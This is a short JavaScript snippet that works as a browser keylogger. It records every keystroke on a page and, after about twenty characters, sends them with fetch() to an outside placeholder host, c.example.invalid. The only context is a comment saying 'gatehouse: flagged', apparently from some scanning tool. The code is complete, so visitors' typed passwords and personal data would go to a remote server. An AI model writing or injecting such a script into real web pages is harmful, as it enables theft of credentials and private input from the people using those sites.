let typed = '';
document.addEventListener('keydown', (event) => {
  typed += event.key;
  if (typed.length > 20) {
    fetch('https://c.example.invalid/k?' + typed); // gatehouse: flagged
    typed = '';
  }
});
